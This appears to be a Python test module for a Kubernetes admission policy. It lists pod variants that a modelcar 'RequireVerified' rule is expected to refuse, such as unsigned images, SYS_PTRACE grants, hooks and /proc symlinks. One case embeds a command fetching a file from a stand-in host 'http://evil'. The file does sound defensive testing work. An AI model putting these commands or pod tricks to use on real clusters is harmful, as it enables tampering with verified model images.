# SPDX-License-Identifier: Apache-2.0
"""A13: modelcars where the policy wants them Verified. The images are those of carriers.py, with their ModelSignatures."""

import copy
import functools

import pods as p
import world as w
from attempt import REFUSED, Attempt, Seen

NAMESPACE = "attack-modelcars"  # the tenant's
LINK = "ln -sf /proc/$$$$/root/models /mnt/models && sleep infinity"
UNKNOWN = "localhost/attack-model@sha256:" + "1" * 64
BY_DIGEST = "good"  # becomes the reference of that image


def set_up(scene):
    scene.world.admin.apply(
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE, "labels": {"models": "modelcars"}}}, policy(scene))
    scene.bind("tenant", w.TEAM, NAMESPACE)


def policy(scene):
    found = copy.deepcopy(scene.policy())
    found["metadata"]["name"] = NAMESPACE
    found["spec"]["match"]["namespaceSelector"]["matchLabels"] = {"models": "modelcars"}
    found["spec"].setdefault("requirements", {})["images"] = ["localhost/*"]
    found["spec"]["unverifiable"] = {"modelcar": "RequireVerified"}
    return found


def car(*, image=BY_DIGEST, script=LINK, mounts=(), **more):
    mounted = [p.mount("car", "/mnt", read_only=False), *mounts]
    return p.container("modelcar", mounted, image, args=["sh", "-c", script], **more)


def pod(modelcar=None, beside=(), volumes=(), server=None, init=(), **spec):
    reads = p.container("server", [p.mount("car", "/mnt", read_only=False)], **({"args": ["/mnt/models"]} | (server or {})))
    return p.pod([p.empty("car"), *volumes], [reads, modelcar or car(), *beside], init, **({"shareProcessNamespace": True} | spec))


def tried(made, words, world):
    """Once the pod as it should be is admitted."""
    refused = world.settled(lambda: world.dry_run(world.named(on_node(pod(), world), NAMESPACE)))
    if refused:
        return Seen("harness", f"the modelcar as it should be is refused: {refused}")
    return world.try_pod(on_node(made, world), words, ns=NAMESPACE, good=None)


def on_node(made, world):
    changed = copy.deepcopy(made)
    for container in [*changed["spec"]["containers"], *changed["spec"].get("initContainers", [])]:
        container["image"] = world.shared["images"].get(container["image"], container["image"])
    return changed


def a13(name, made, *words):
    return Attempt("A13", f"modelcar: {name}", REFUSED, functools.partial(tried, made, words))


OTHER_USER = {"runAsUser": 1011, "allowPrivilegeEscalation": False}
ATTEMPTS = [
    a13("an image that nobody signed", pod(car(image="unsigned")), "modelcar image"),
    a13("an image that a stranger signed", pod(car(image="stranger")), "modelcar image"),
    a13("another digest", pod(car(image=UNKNOWN)), "1" * 64),
    a13("a tag", pod(car(image="localhost/attack-model:good")), "localhost/attack-model:good"),
    a13("another command", pod(car(script="wget -O /models/w http://evil && " + LINK)), "shareProcessNamespace"),
    a13("a link to other processes", pod(car(script=LINK.replace("$$$$", "1"))), "shareProcessNamespace"),
    a13("a link to another directory", pod(car(script=LINK.replace("root/models", "root/tmp"))), "shareProcessNamespace"),
    a13("a variable", pod(car(env=[{"name": "ENV", "value": "/mnt/rc"}])), "env"),
    a13("a hook", pod(car(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "id"]}}})), "lifecycle"),
    a13("a volume over its files", pod(car(mounts=[p.mount("own", "/models", read_only=False)]), volumes=[p.empty("own")]), "modelcar"),
    a13("the right to trace", pod(car(securityContext={"capabilities": {"add": ["SYS_PTRACE"]}})), "SYS_PTRACE"),
    a13("a server with the right to trace", pod(server={"securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}}}), "SYS_PTRACE"),
    a13("a neighbour of the same user", pod(beside=[p.container("beside")]), "beside"),
    a13("a neighbour that may become root", pod(car(securityContext={"runAsUser": 1010}), [
        p.container("beside", securityContext=OTHER_USER | {"allowPrivilegeEscalation": True})]), "beside"),
    a13("a second reader that writes", pod(beside=[p.container("beside", [p.mount("car", "/mnt", read_only=False)])]), "beside"),
    a13("an init container that fills the volume", pod(init=[p.container("first", [p.mount("car", "/mnt", read_only=False)])]), "first"),
    a13("a volume below the link", pod(volumes=[p.empty("own")], server={
        "volumeMounts": [p.mount("car", "/mnt", read_only=False), p.mount("own", "/mnt/models/lora")]}), "/mnt/models/lora"),
    a13("a model beside the link", pod(server={"image": "localhost/vllm:1", "args": ["--model=/mnt/other"]}), "/mnt/other"),
]
